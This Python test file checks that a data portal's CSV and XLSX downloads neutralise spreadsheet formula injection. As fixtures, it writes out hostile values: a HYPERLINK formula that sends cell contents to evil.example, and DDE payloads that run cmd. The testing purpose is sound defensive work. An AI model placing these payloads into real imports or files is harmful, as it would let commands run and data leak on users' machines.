"""Downloads cannot carry formulas: hostile import metadata and scenario names reach every CSV and XLSX export
neutralised (OWASP's CSV-injection rule). The test goes through the public download functions, so it guards
whatever format the downloads land on (comma or semicolon CSV)."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from cli import main
from data.results import export_table_bytes
from data.scenario.schema import parse_scenario
from data.spreadsheet_safety import FORMULA_STARTS, neutralise, neutralise_note
from services.monitoring import load_catalogue
from services.monitoring_exports import block_file
from services.simulation import simulate
from tests.data.test_monitoring_support import GOOD_ROWS, write_csv

HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "publisher": "+cmd|' /C calc'!A0",
    "licence": "@SUM(1+1)*cmd|' /C calc'!A0",
}
HOSTILE_FILE = "-2+3+cmd|' calc'!A0.csv"


def is_number(text: str) -> bool:
    try:
        float(text.replace(",", "."))
    except ValueError:
        return False
    return True


def dangerous_csv_cells(content: bytes) -> list[str]:
    """Cells a spreadsheet would run, read with each separator a Belgian or other Excel may use."""
    text = content.decode("utf-8-sig")
    found = []
    for delimiter in (",", ";", "\t"):
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            for cell in row:
                if cell.startswith(FORMULA_STARTS) and not is_number(cell):
                    found.append(cell)
    return found


def dangerous_xlsx_cells(content: bytes) -> list[str]:
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    found = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (
                    isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS)
                ):
                    found.append(f"{sheet.title}!{cell.coordinate}: {cell.value!r:.60}")
    return found


@pytest.mark.parametrize("text", ["=1+1", "+1", "-x", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_text_that_starts_like_a_formula_is_neutralised(text):
    assert neutralise(text) == "'" + text
    assert neutralise(-5) == -5 and neutralise(1.5) == 1.5 and neutralise("Bron: VDAB") == "Bron: VDAB"


def test_a_note_line_has_no_piece_that_starts_like_a_formula():
    assert neutralise_note("Bron: X, =HYPERLINK(1); +cmd") == "Bron: X, '=HYPERLINK(1); '+cmd"


@pytest.fixture
def hostile_release(tmp_path, monkeypatch):
    folder = tmp_path / "data"
    monkeypatch.setenv("IMW_DATA_DIR", str(folder))
    department_file = write_csv(tmp_path / HOSTILE_FILE, GOOD_ROWS)
    arguments = ["data", "import", str(department_file)]
    for option, value in HOSTILE.items():
        arguments += [f"--{option}", value]
    assert main(arguments) == 0
    return folder


def test_hostile_import_metadata_reaches_no_monitoring_download_as_a_formula(hostile_release):
    indicators = [info.id for info in load_catalogue()]
    assert "imw_workers" in indicators
    seen_hostile = 0
    for indicator in indicators:
        for file_format in ("csv", "xlsx"):
            for language in ("nl", "en"):
                download = block_file(indicator, None, None, None, language, file_format)
                if download is None:
                    continue
                content = download.content
                if file_format == "csv":
                    assert dangerous_csv_cells(content) == [], indicator
                    seen_hostile += "'+cmd" in content.decode("utf-8-sig")
                else:
                    assert dangerous_xlsx_cells(content) == [], indicator
                    seen_hostile += any(
                        isinstance(c.value, str) and "'+cmd" in c.value
                        for s in openpyxl.load_workbook(io.BytesIO(content)).worksheets
                        for r in s.iter_rows()
                        for c in r
                    )
    # The imported indicators' downloads do carry the (neutralised) publisher; the title of an import is shown
    # as the portal's own words for a department file, so the publisher is what reaches them.
    assert seen_hostile >= 4


def test_a_hostile_scenario_name_reaches_no_simulator_export_as_a_formula():
    scenario = parse_scenario({"name": '=HYPERLINK("http://evil.example","x"),=1+1', "draws": 0})
    result = simulate(scenario)
    for suffix, check in ((".csv", dangerous_csv_cells), (".xlsx", dangerous_xlsx_cells)):
        content = export_table_bytes(suffix, scenario, result.annual, result.n_draws)
        assert check(content) == [], suffix
